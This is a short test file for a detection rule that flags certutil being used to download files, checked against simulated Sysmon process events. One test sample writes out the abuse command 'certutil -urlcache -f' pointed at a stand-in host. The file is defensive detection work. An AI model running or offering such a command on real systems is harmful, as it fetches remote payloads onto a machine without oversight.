import { detection, sysmon } from "speleo/testing";
import { expect, test } from "vitest";

const rule = detection("/tmp/why/wt2/.docs-gQi7vw/detections/certutil_download.yml");
const certutil = { Image: "C:\\Windows\\System32\\certutil.exe", CommandLine: "certutil -urlcache -f http://x.example/a" };

test("fires on a download", () => expect(rule).toFireOn([sysmon(1, certutil)], { count: 1 }));
test("stays quiet otherwise", () => expect(rule).not.toFireOn([sysmon(1, { ...certutil, CommandLine: "certutil -dump" })]));
